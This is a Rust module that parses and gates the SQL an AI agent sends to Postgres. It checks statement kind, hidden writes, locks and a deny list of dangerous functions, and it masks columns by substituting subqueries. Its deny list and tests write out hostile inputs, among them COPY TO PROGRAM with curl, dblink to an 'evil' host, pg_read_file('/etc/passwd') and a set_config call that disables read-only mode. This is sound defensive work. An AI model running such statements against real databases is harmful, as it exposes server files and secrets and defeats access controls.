//! What an agent's SQL is, decided before a database sees it.
//!
//! `sqlparser` turns the text into a syntax tree; a visitor then collects
//! every relation, function and sub-statement in it. A statement is
//! refused unless it is exactly one statement of the kind the tool takes,
//! calls no function of [`DENIED_FUNCTIONS`], creates nothing
//! (`SELECT … INTO`), locks nothing (`FOR UPDATE`) and hides no write in a
//! `WITH`. What runs is the tree printed back ([`Analysis::canonical`]), so
//! the text that was checked is the text that runs (comments and quoting
//! tricks cannot make the two differ), and it runs through the extended
//! protocol, which refuses a second statement on its own. The database's
//! `READ ONLY` transaction is the last line, not the first.
//!
//! Which tables the statement may touch needs the database (names resolve
//! through its `search_path`), so [`Analysis::relations`] is checked by the
//! executor.

use std::collections::{HashMap, HashSet};
use std::ops::ControlFlow;

use sha2::{Digest, Sha256};
use sqlparser::ast::{
    AssignmentTarget, Expr, FromTable, Ident, ObjectName, Query, Select, SetExpr, Statement,
    TableFactor, TableObject, Visit, VisitMut, Visitor, VisitorMut,
};
use sqlparser::dialect::PostgreSqlDialect;
use sqlparser::parser::Parser;
use sqlparser::tokenizer::{Token, Tokenizer};

/// The longest statement accepted (bytes).
pub const MAX_SQL: usize = 20_000;

/// Functions no governed statement may call, by name or prefix (`*`):
/// they sleep, read or write server files, reach other databases, change
/// settings, signal backends, take locks that outlive the statement, or run
/// a query given as text (which would escape these checks).
pub const DENIED_FUNCTIONS: &[&str] = &[
    "pg_sleep*",
    "dblink*",
    "lo_*",
    "loread",
    "lowrite",
    "pg_read_*",
    "pg_ls_*",
    "pg_stat_file",
    "pg_file_*",
    "pg_stat_reset*",
    "set_config",
    "pg_advisory*",
    "pg_try_advisory*",
    "pg_terminate_backend",
    "pg_cancel_backend",
    "pg_reload_conf",
    "pg_rotate_logfile",
    "pg_log_backend_memory_contexts",
    "pg_logical_*",
    "pg_replication_*",
    "pg_create_*",
    "pg_drop_*",
    "pg_switch_*",
    "pg_promote",
    "pg_backup_*",
    "pg_start_backup",
    "pg_stop_backup",
    "pg_wal_replay_*",
    "pg_import_system_collations",
    "pg_export_snapshot",
    "pg_notify",
    "nextval",
    "setval",
    "txid_current",
    "pg_current_xact_id",
    "query_to_*",
    "table_to_*",
    "schema_to_*",
    "database_to_*",
    "cursor_to_*",
    "ts_stat",
    "ts_rewrite",
    "binary_upgrade_*",
];

fn denied(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    DENIED_FUNCTIONS.iter().any(|d| match d.strip_suffix('*') {
        Some(prefix) => name.starts_with(prefix),
        None => name == *d,
    })
}

/// Why a statement was refused (shown to the agent as is).
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum SqlError {
    #[error("the statement is empty")]
    Empty,
    #[error("the statement is longer than {MAX_SQL} bytes")]
    TooLong,
    #[error("the statement does not parse: {0}")]
    Parse(String),
    #[error("only one statement is allowed; this text holds {0}")]
    Several(usize),
    #[error("this tool runs {expected}; the statement is {found}")]
    WrongKind {
        expected: &'static str,
        found: String,
    },
    #[error("a WITH clause may not change data ({0} inside WITH)")]
    WritingWith(&'static str),
    #[error("SELECT … INTO creates a table and is not allowed")]
    SelectInto,
    #[error("row locks (FOR UPDATE / FOR SHARE) are not allowed")]
    Locks,
    #[error("the function {0} is not allowed")]
    DeniedFunction(String),
    #[error("write SELECT * FROM {0} instead of TABLE {0}")]
    TableCommand(String),
    #[error("a statement nested in this one is not allowed: {0}")]
    Nested(String),
    #[error("{0} needs a WHERE clause")]
    NoWhere(&'static str),
    #[error("this form of {0} is not supported")]
    Unsupported(&'static str),
}

/// The kind of a statement.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    Select,
    Insert,
    Update,
    Delete,
}

impl Kind {
    pub fn as_str(self) -> &'static str {
        match self {
            Kind::Select => "SELECT",
            Kind::Insert => "INSERT",
            Kind::Update => "UPDATE",
            Kind::Delete => "DELETE",
        }
    }
}

/// A relation as written: its name parts as Postgres reads them (unquoted
/// parts folded to lower case).
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct RelationName {
    pub parts: Vec<String>,
    quoted: Vec<bool>,
}

impl RelationName {
    fn of(name: &ObjectName) -> Option<Self> {
        let idents: Vec<&Ident> = name.0.iter().map(|p| p.as_ident()).collect::<Option<_>>()?;
        Some(RelationName {
            parts: idents.iter().map(|i| fold(i)).collect(),
            quoted: idents.iter().map(|i| i.quote_style.is_some()).collect(),
        })
    }

    /// The name as `to_regclass` reads it (each part quoted, so what it
    /// finds is exactly what the statement names).
    pub fn regclass_text(&self) -> String {
        self.parts
            .iter()
            .map(|p| quote_ident(p))
            .collect::<Vec<_>>()
            .join(".")
    }

    /// An unqualified name (which a `WITH` name can shadow).
    pub fn bare(&self) -> Option<&str> {
        match self.parts.as_slice() {
            [one] => Some(one),
            _ => None,
        }
    }
}

impl std::fmt::Display for RelationName {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        for (i, (p, q)) in self.parts.iter().zip(&self.quoted).enumerate() {
            if i > 0 {
                f.write_str(".")?;
            }
            if *q {
                write!(f, "\"{p}\"")?;
            } else {
                f.write_str(p)?;
            }
        }
        Ok(())
    }
}

fn fold(i: &Ident) -> String {
    if i.quote_style.is_some() {
        i.value.clone()
    } else {
        i.value.to_lowercase()
    }
}

/// One checked statement.
#[derive(Debug, Clone)]
pub struct Analysis {
    pub kind: Kind,
    /// The statement printed from its syntax tree: what runs.
    pub canonical: String,
    /// Every relation it reads or writes, `WITH` names included (the
    /// executor tells the two apart, see [`Analysis::ctes`]).
    pub relations: Vec<RelationName>,
    /// Names the statement defines with `WITH`.
    pub ctes: HashSet<String>,
    /// A stable id of the statement's shape (literals removed): what
    /// compact surfaces show instead of the text.
    pub fingerprint: String,
    /// Every column-like name it uses (last part, as Postgres reads it).
    pub identifiers: HashSet<String>,
    statement: Statement,
}

/// A checked `INSERT` / `UPDATE` / `DELETE`.
#[derive(Debug, Clone)]
pub struct Write {
    pub analysis: Analysis,
    /// The table it changes.
    pub target: RelationName,
    /// Its `WHERE` condition, printed (None: every row).
    pub condition: Option<String>,
    /// Whether the condition names any column (`WHERE true` does not).
    pub condition_names_a_column: bool,
    /// Columns it sets (UPDATE) or fills (INSERT).
    pub columns: Vec<String>,
}

/// Collects what the checks need while walking the tree.
#[derive(Default)]
struct Walk {
    relations: Vec<RelationName>,
    /// Relations the parser saw that are really set-returning functions
    /// (`FROM f(x)`), to take back out of `relations`.
    from_functions: Vec<RelationName>,
    ctes: HashSet<String>,
    identifiers: HashSet<String>,
    statements: usize,
}

impl Visitor for Walk {
    type Break = SqlError;

    fn pre_visit_statement(&mut self, s: &Statement) -> ControlFlow<SqlError> {
        self.statements += 1;
        if self.statements > 1 {
            return ControlFlow::Break(SqlError::Nested(short(&s.to_string())));
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_query(&mut self, q: &Query) -> ControlFlow<SqlError> {
        if !q.locks.is_empty() {
            return ControlFlow::Break(SqlError::Locks);
        }
        if q.for_clause.is_some() {
            return ControlFlow::Break(SqlError::Unsupported("FOR clause"));
        }
        if let Some(with) = &q.with {
            for cte in &with.cte_tables {
                if let Some(w) = writes_in(&cte.query.body) {
                    return ControlFlow::Break(SqlError::WritingWith(w));
                }
                self.ctes.insert(fold(&cte.alias.name));
            }
        }
        if let Some(w) = writes_in(&q.body) {
            return ControlFlow::Break(SqlError::Nested(w.to_owned()));
        }
        if let Some(t) = table_command(&q.body) {
            return ControlFlow::Break(SqlError::TableCommand(t));
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_select(&mut self, s: &Select) -> ControlFlow<SqlError> {
        if s.into.is_some() {
            return ControlFlow::Break(SqlError::SelectInto);
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_relation(&mut self, r: &ObjectName) -> ControlFlow<SqlError> {
        match RelationName::of(r) {
            Some(n) => {
                self.relations.push(n);
                ControlFlow::Continue(())
            }
            None => ControlFlow::Break(SqlError::Unsupported("relation name")),
        }
    }

    fn pre_visit_table_factor(&mut self, t: &TableFactor) -> ControlFlow<SqlError> {
        match t {
            TableFactor::Table {
                name,
                args: Some(_),
                ..
            } => {
                check_function(name)?;
                if let Some(n) = RelationName::of(name) {
                    self.from_functions.push(n);
                }
            }
            TableFactor::Function { name, .. } => check_function(name)?,
            _ => {}
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_expr(&mut self, e: &Expr) -> ControlFlow<SqlError> {
        match e {
            Expr::Function(f) => check_function(&f.name)?,
            Expr::Identifier(i) => {
                self.identifiers.insert(fold(i));
            }
            Expr::CompoundIdentifier(parts) => {
                if let Some(i) = parts.last() {
                    self.identifiers.insert(fold(i));
                }
            }
            _ => {}
        }
        ControlFlow::Continue(())
    }
}

fn check_function(name: &ObjectName) -> ControlFlow<SqlError> {
    // The last part is the function (`pg_catalog.pg_sleep` is pg_sleep).
    let last = name.0.last().and_then(|p| p.as_ident()).map(fold);
    match last {
        Some(f) if denied(&f) => ControlFlow::Break(SqlError::DeniedFunction(f)),
        Some(_) => ControlFlow::Continue(()),
        None => ControlFlow::Break(SqlError::Unsupported("function name")),
    }
}

/// The write a query body hides, if any (set operations included).
fn writes_in(body: &SetExpr) -> Option<&'static str> {
    match body {
        SetExpr::Insert(_) => Some("INSERT"),
        SetExpr::Update(_) => Some("UPDATE"),
        SetExpr::Delete(_) => Some("DELETE"),
        SetExpr::Merge(_) => Some("MERGE"),
        SetExpr::SetOperation { left, right, .. } => writes_in(left).or_else(|| writes_in(right)),
        SetExpr::Query(q) => writes_in(&q.body),
        _ => None,
    }
}

/// `TABLE name` (which the visitor does not report as a relation).
fn table_command(body: &SetExpr) -> Option<String> {
    match body {
        SetExpr::Table(t) => Some(
            [&t.schema_name, &t.table_name]
                .into_iter()
                .flatten()
                .map(|i| i.value.as_str())
                .collect::<Vec<_>>()
                .join("."),
        ),
        SetExpr::SetOperation { left, right, .. } => {
            table_command(left).or_else(|| table_command(right))
        }
        SetExpr::Query(q) => table_command(&q.body),
        _ => None,
    }
}

fn short(s: &str) -> String {
    let s: String = s.chars().take(60).collect();
    s.split_whitespace().take(3).collect::<Vec<_>>().join(" ")
}

fn parse_one(sql: &str) -> Result<Statement, SqlError> {
    if sql.len() > MAX_SQL {
        return Err(SqlError::TooLong);
    }
    if sql.trim().trim_end_matches(';').trim().is_empty() {
        return Err(SqlError::Empty);
    }
    let mut stmts = Parser::parse_sql(&PostgreSqlDialect {}, sql).map_err(|e| {
        SqlError::Parse(
            e.to_string()
                .trim_start_matches("sql parser error: ")
                .to_owned(),
        )
    })?;
    match stmts.len() {
        0 => Err(SqlError::Empty),
        1 => Ok(stmts.remove(0)),
        n => Err(SqlError::Several(n)),
    }
}

fn kind_of(s: &Statement) -> Option<Kind> {
    match s {
        Statement::Query(_) => Some(Kind::Select),
        Statement::Insert(_) => Some(Kind::Insert),
        Statement::Update(_) => Some(Kind::Update),
        Statement::Delete(_) => Some(Kind::Delete),
        _ => None,
    }
}

fn describe(s: &Statement) -> String {
    kind_of(s)
        .map(|k| k.as_str().to_owned())
        .unwrap_or_else(|| {
            let text = s.to_string();
            text.split_whitespace()
                .next()
                .unwrap_or("unknown")
                .to_uppercase()
        })
}

fn analyse(stmt: &Statement, kind: Kind) -> Result<Analysis, SqlError> {
    let mut walk = Walk::default();
    if let ControlFlow::Break(e) = stmt.visit(&mut walk) {
        return Err(e);
    }
    let mut relations = walk.relations;
    for f in &walk.from_functions {
        if let Some(i) = relations.iter().position(|r| r == f) {
            relations.remove(i);
        }
    }
    let canonical = stmt.to_string();
    Ok(Analysis {
        kind,
        fingerprint: fingerprint(&canonical),
        canonical,
        relations,
        ctes: walk.ctes,
        identifiers: walk.identifiers,
        statement: stmt.clone(),
    })
}

/// The statement with some tables read through a replacement: each
/// `(relation, SELECT …)` pair makes every reference to that relation read
/// the SELECT instead, under the name or alias it had. Masked columns are
/// masked this way, inside the database, so no expression, condition or
/// whole-row reference can read around the mask.
pub fn with_replacements(
    a: &Analysis,
    replacements: &HashMap<RelationName, String>,
) -> Result<String, SqlError> {
    struct Swap<'a> {
        replacements: &'a HashMap<RelationName, String>,
    }
    impl VisitorMut for Swap<'_> {
        type Break = SqlError;
        // After the children: the replacement itself names the table, and
        // must not be replaced again.
        fn post_visit_table_factor(&mut self, t: &mut TableFactor) -> ControlFlow<SqlError> {
            let TableFactor::Table {
                name,
                alias,
                args: None,
                ..
            } = t
            else {
                return ControlFlow::Continue(());
            };
            let Some(rel) = RelationName::of(name) else {
                return ControlFlow::Continue(());
            };
            let Some(sub) = self.replacements.get(&rel) else {
                return ControlFlow::Continue(());
            };
            let alias = match alias {
                Some(a) => a.to_string(),
                None => quote_ident(rel.parts.last().map(String::as_str).unwrap_or("t")),
            };
            let text = format!("SELECT * FROM ({sub}) {alias}");
            let relation = match parse_one(&text) {
                Ok(Statement::Query(q)) => match *q.body {
                    SetExpr::Select(s) => s.from.into_iter().next().map(|f| f.relation),
                    _ => None,
                },
                _ => None,
            };
            match relation {
                Some(r) => {
                    *t = r;
                    ControlFlow::Continue(())
                }
                None => ControlFlow::Break(SqlError::Unsupported("masked table reference")),
            }
        }
    }
    if replacements.is_empty() {
        return Ok(a.canonical.clone());
    }
    let mut stmt = a.statement.clone();
    if let ControlFlow::Break(e) = VisitMut::visit(&mut stmt, &mut Swap { replacements }) {
        return Err(e);
    }
    Ok(stmt.to_string())
}

/// An identifier quoted for Postgres.
pub fn quote_ident(s: &str) -> String {
    format!("\"{}\"", s.replace('"', "\"\""))
}

/// A read: exactly one `SELECT` (or `VALUES` / set operation of them).
pub fn read(sql: &str) -> Result<Analysis, SqlError> {
    let stmt = parse_one(sql)?;
    if kind_of(&stmt) != Some(Kind::Select) {
        return Err(SqlError::WrongKind {
            expected: "one SELECT",
            found: describe(&stmt),
        });
    }
    analyse(&stmt, Kind::Select)
}

/// A write of one of `allowed` kinds, with its target and condition.
pub fn write(sql: &str, allowed: &[Kind]) -> Result<Write, SqlError> {
    let stmt = parse_one(sql)?;
    let kind = kind_of(&stmt).filter(|k| allowed.contains(k));
    let Some(kind) = kind else {
        return Err(SqlError::WrongKind {
            expected: match allowed {
                [Kind::Update] => "one UPDATE",
                [Kind::Delete] => "one DELETE",
                _ => "one INSERT, UPDATE or DELETE",
            },
            found: describe(&stmt),
        });
    };
    let (target, selection, columns) = match &stmt {
        Statement::Insert(i) => {
            let TableObject::TableName(name) = &i.table else {
                return Err(SqlError::Unsupported("INSERT"));
            };
            let columns = i
                .columns
                .iter()
                .filter_map(|c| RelationName::of(c).and_then(|n| n.parts.last().cloned()))
                .collect();
            (name.clone(), None, columns)
        }
        Statement::Update(u) => {
            let TableFactor::Table { name, .. } = &u.table.relation else {
                return Err(SqlError::Unsupported("UPDATE"));
            };
            if !u.table.joins.is_empty() {
                return Err(SqlError::Unsupported("UPDATE"));
            }
            let mut columns = Vec::new();
            for a in &u.assignments {
                let names: Vec<&ObjectName> = match &a.target {
                    AssignmentTarget::ColumnName(c) => vec![c],
                    AssignmentTarget::Tuple(cs) => cs.iter().collect(),
                };
                for c in names {
                    if let Some(n) = RelationName::of(c).and_then(|n| n.parts.last().cloned()) {
                        columns.push(n);
                    }
                }
            }
            (name.clone(), u.selection.as_ref(), columns)
        }
        Statement::Delete(d) => {
            let from = match &d.from {
                FromTable::WithFromKeyword(v) | FromTable::WithoutKeyword(v) => v,
            };
            let [only] = from.as_slice() else {
                return Err(SqlError::Unsupported("DELETE"));
            };
            let TableFactor::Table { name, .. } = &only.relation else {
                return Err(SqlError::Unsupported("DELETE"));
            };
            if !d.tables.is_empty() || !only.joins.is_empty() {
                return Err(SqlError::Unsupported("DELETE"));
            }
            (name.clone(), d.selection.as_ref(), vec![])
        }
        _ => return Err(SqlError::Unsupported("statement")),
    };
    let target = RelationName::of(&target).ok_or(SqlError::Unsupported("table name"))?;
    let condition_names_a_column = selection.is_some_and(names_a_column);
    Ok(Write {
        analysis: analyse(&stmt, kind)?,
        target,
        condition: selection.map(|e| e.to_string()),
        condition_names_a_column,
        columns,
    })
}

/// Whether an expression mentions a column anywhere (so it can select
/// some rows rather than all or none).
fn names_a_column(e: &Expr) -> bool {
    struct Columns(bool);
    impl Visitor for Columns {
        type Break = ();
        fn pre_visit_expr(&mut self, e: &Expr) -> ControlFlow<()> {
            if matches!(e, Expr::Identifier(_) | Expr::CompoundIdentifier(_)) {
                self.0 = true;
                return ControlFlow::Break(());
            }
            ControlFlow::Continue(())
        }
    }
    let mut v = Columns(false);
    let _ = e.visit(&mut v);
    v.0
}

/// The statement's shape without its literals, hashed: two calls that
/// differ only in values share it.
pub fn fingerprint(sql: &str) -> String {
    let dialect = PostgreSqlDialect {};
    let tokens = Tokenizer::new(&dialect, sql).tokenize().unwrap_or_default();
    let mut shape = String::new();
    for t in tokens {
        let part = match t {
            Token::Whitespace(_) => continue,
            Token::Number(..)
            | Token::SingleQuotedString(_)
            | Token::DollarQuotedString(_)
            | Token::EscapedStringLiteral(_)
            | Token::NationalStringLiteral(_)
            | Token::UnicodeStringLiteral(_)
            | Token::HexStringLiteral(_)
            | Token::SingleQuotedByteStringLiteral(_) => "?".to_owned(),
            other => other.to_string().to_lowercase(),
        };
        shape.push_str(&part);
        shape.push(' ');
    }
    hex::encode(&Sha256::digest(shape.as_bytes())[..8])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn refused(sql: &str) -> SqlError {
        read(sql).unwrap_err()
    }

    #[test]
    fn a_plain_select_passes_with_its_relations() {
        let a = read("select id, Email from Public.Customers c join \"Orders\" o on o.cid = c.id where c.id = 3").unwrap();
        assert_eq!(a.kind, Kind::Select);
        let names: Vec<String> = a.relations.iter().map(|r| r.to_string()).collect();
        assert_eq!(names, ["public.customers", "\"Orders\""]);
        assert!(
            a.canonical
                .starts_with("SELECT id, Email FROM Public.Customers")
        );
    }

    #[test]
    fn several_statements_and_writes_are_refused() {
        assert_eq!(refused("SELECT 1; SELECT 2"), SqlError::Several(2));
        assert_eq!(
            refused("SELECT * FROM customers; DROP TABLE customers"),
            SqlError::Several(2)
        );
        assert!(matches!(
            refused("DELETE FROM customers"),
            SqlError::WrongKind { .. }
        ));
        assert!(matches!(
            refused("COPY customers TO PROGRAM 'curl evil'"),
            SqlError::WrongKind { .. }
        ));
        assert!(matches!(
            refused("COPY (SELECT 1) TO PROGRAM 'id'"),
            SqlError::WrongKind { .. }
        ));
        assert_eq!(
            refused("WITH gone AS (DELETE FROM customers RETURNING *) SELECT * FROM gone"),
            SqlError::WritingWith("DELETE")
        );
        assert_eq!(
            refused("SELECT * INTO copy FROM customers"),
            SqlError::SelectInto
        );
        assert_eq!(
            refused("SELECT * FROM customers FOR UPDATE"),
            SqlError::Locks
        );
        let t = read("TABLE customers");
        assert!(t.is_err(), "{t:?}");
        assert!(matches!(refused(""), SqlError::Empty));
        assert!(matches!(refused("SELEC 1"), SqlError::Parse(_)));
    }

    #[test]
    fn denied_functions_are_refused_wherever_they_hide() {
        for sql in [
            "SELECT pg_sleep(10)",
            "SELECT PG_SLEEP(10)",
            "SELECT \"pg_sleep\"(10)",
            "SELECT pg_catalog.pg_sleep(1)",
            "SELECT * FROM customers WHERE id = (SELECT pg_sleep_for('1 min'))",
            "SELECT set_config('default_transaction_read_only', 'off', false)",
            "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)",
            "SELECT lo_export(1, '/tmp/x')",
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT query_to_xml('select * from secrets', true, true, '')",
            "SELECT table_to_xml('secrets', true, true, '')",
            "WITH x AS (SELECT pg_advisory_lock(1)) SELECT * FROM x",
            "SELECT nextval('s')",
        ] {
            assert!(
                matches!(read(sql), Err(SqlError::DeniedFunction(_))),
                "{sql}: {:?}",
                read(sql)
            );
        }
        // Functions outside the list are fine.
        assert!(read("SELECT lower(email), count(*) FROM customers GROUP BY 1").is_ok());
    }

    #[test]
    fn set_returning_functions_are_not_relations() {
        let a = read("SELECT * FROM generate_series(1, 3) g, customers").unwrap();
        let names: Vec<String> = a.relations.iter().map(|r| r.to_string()).collect();
        assert_eq!(names, ["customers"]);
    }

    #[test]
    fn with_names_are_reported() {
        let a = read("WITH recent AS (SELECT * FROM orders) SELECT * FROM recent").unwrap();
        assert!(a.ctes.contains("recent"));
        let names: Vec<String> = a.relations.iter().map(|r| r.to_string()).collect();
        assert!(names.contains(&"orders".to_owned()) && names.contains(&"recent".to_owned()));
    }

    #[test]
    fn writes_give_target_condition_and_columns() {
        let w = write(
            "UPDATE customers SET email = 'x', tier = 2 WHERE id = 4",
            &[Kind::Update],
        )
        .unwrap();
        assert_eq!(w.target.to_string(), "customers");
        assert_eq!(w.condition.as_deref(), Some("id = 4"));
        assert!(w.condition_names_a_column);
        assert_eq!(w.columns, ["email", "tier"]);

        let d = write("DELETE FROM public.customers", &[Kind::Delete]).unwrap();
        assert_eq!(d.condition, None);
        let t = write("DELETE FROM customers WHERE 1 = 1", &[Kind::Delete]).unwrap();
        assert!(!t.condition_names_a_column);

        assert!(matches!(
            write("SELECT 1", &[Kind::Delete]),
            Err(SqlError::WrongKind { .. })
        ));
        assert!(matches!(
            write(
                "DELETE FROM customers WHERE id = pg_sleep(1)",
                &[Kind::Delete]
            ),
            Err(SqlError::DeniedFunction(_))
        ));
        assert!(matches!(
            write(
                "DROP TABLE customers",
                &[Kind::Insert, Kind::Update, Kind::Delete]
            ),
            Err(SqlError::WrongKind { .. })
        ));
        let i = write(
            "INSERT INTO orders (customer_id, total) VALUES (1, 5)",
            &[Kind::Insert],
        )
        .unwrap();
        assert_eq!(i.columns, ["customer_id", "total"]);
    }

    #[test]
    fn replacements_mask_every_reference_under_its_name() {
        let a = read(
            "SELECT c.ssn, x.* FROM customers c, (SELECT * FROM Customers) x WHERE c.ssn LIKE '5%'",
        )
        .unwrap();
        let mut r = HashMap::new();
        r.insert(
            a.relations[0].clone(),
            "SELECT \"id\", NULL::text AS \"ssn\" FROM \"public\".\"customers\"".to_owned(),
        );
        let out = with_replacements(&a, &r).unwrap();
        assert_eq!(
            out.to_lowercase().matches("null::text as \"ssn\"").count(),
            2,
            "{out}"
        );
        assert!(out.contains(") AS c") || out.contains(") c"), "{out}");
        assert!(a.identifiers.contains("ssn"));
    }

    #[test]
    fn fingerprints_ignore_literals_and_spacing() {
        assert_eq!(
            fingerprint("SELECT * FROM customers WHERE id = 1"),
            fingerprint("select *  from customers where id = 42")
        );
        assert_ne!(
            fingerprint("SELECT * FROM customers"),
            fingerprint("SELECT * FROM orders")
        );
        assert_eq!(fingerprint("SELECT 'a'").len(), 16);
    }
}
